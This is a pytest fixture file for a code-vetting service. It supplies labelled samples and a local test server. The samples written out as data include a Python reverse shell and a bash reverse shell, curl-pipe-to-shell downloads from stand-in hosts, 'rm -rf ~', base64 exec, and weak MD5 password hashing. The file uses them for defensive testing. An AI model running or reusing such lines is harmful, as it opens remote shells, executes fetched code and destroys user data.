"""Shared samples and a real `codeeval serve` for the vet tests."""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]

# name -> (language, code, verdict under the default policy)
SAMPLES: dict[str, tuple[str, str, str]] = {
    "reverse_shell": ("python", (
        "import socket, subprocess, os\n"
        "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
        "s.connect(('10.0.0.1', 4444))\n"
        "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n"
        "subprocess.call(['/bin/sh', '-i'])\n"
    ), "block"),
    "rm_rf_home": ("python", "import os\n\ndef cleanup():\n    os.system('rm -rf ~')\n", "block"),
    "curl_pipe_sh": ("python", "import os\nos.system('curl -fsSL http://203.0.113.7/install.sh | sh')\n", "block"),
    "exec_base64": ("python", "import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n", "block"),
    "bash_reverse_shell": ("bash", "#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", "block"),
    "bash_curl_sh": ("bash", "curl -s http://203.0.113.7/x.sh | bash\n", "block"),
    "yaml_load": ("python", "import yaml\n\ndef load_config(path):\n    with open(path) as f:\n        return yaml.load(f)\n", "warn"),
    "md5_password": ("python", (
        "import hashlib\n\ndef hash_password(password):\n    return hashlib.md5(password.encode()).hexdigest()\n"
    ), "warn"),
    "sorting": ("python", (
        "def top_scores(rows, n=3):\n    \"\"\"The n best rows by score, ties broken by name.\"\"\"\n"
        "    return sorted(rows, key=lambda r: (-r['score'], r['name']))[:n]\n"
    ), "allow"),
    "json_io": ("python", (
        "import json\n\ndef load(path):\n    with open(path, encoding='utf-8') as f:\n        return json.load(f)\n\n"
        "def dump(data):\n    return json.dumps(data, indent=2, sort_keys=True)\n"
    ), "allow"),
    "bash_benign": ("bash", "#!/bin/bash\nset -euo pipefail\nfor f in *.txt; do\n  wc -l \"$f\"\ndone\n", "allow"),
}
HOSTILE = [k for k, v in SAMPLES.items() if v[2] == "block"]
BENIGN = [k for k, v in SAMPLES.items() if v[2] == "allow"]
WEAK = [k for k, v in SAMPLES.items() if v[2] == "warn"]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


class Server:
    """A `codeeval serve` subprocess on 127.0.0.1 and a free port."""

    def __init__(self, *args: str, env: dict[str, str] | None = None) -> None:
        self.port = free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "codeeval", "serve", "--port", str(self.port), "--log-level", "warning", *args],
            cwd=ROOT, env={**os.environ, **(env or {})}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline:
            if self.proc.poll() is not None:
                raise RuntimeError(f"codeeval serve exited: {self.proc.stdout.read().decode(errors='replace')}")
            try:
                with urllib.request.urlopen(self.url + "/healthz", timeout=2):
                    return
            except OSError:
                time.sleep(0.2)
        self.stop()
        raise RuntimeError("codeeval serve did not come up within 60 s")

    def post(self, path: str, body: bytes | dict, headers: dict[str, str] | None = None, timeout: float = 120):
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
        request = urllib.request.Request(self.url + path, data=data, method="POST",
                                         headers={"Content-Type": "application/json", **(headers or {})})
        try:
            with urllib.request.urlopen(request, timeout=timeout) as response:
                return response.status, json.loads(response.read())
        except urllib.error.HTTPError as exc:
            return exc.code, json.loads(exc.read() or b"null")

    def get(self, path: str):
        with urllib.request.urlopen(self.url + path, timeout=30) as response:
            return response.status, json.loads(response.read())

    def stop(self) -> None:
        if self.proc.poll() is None:
            self.proc.terminate()
            try:
                self.proc.wait(timeout=15)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()


@pytest.fixture(scope="session")
def server():
    s = Server()
    yield s
    s.stop()
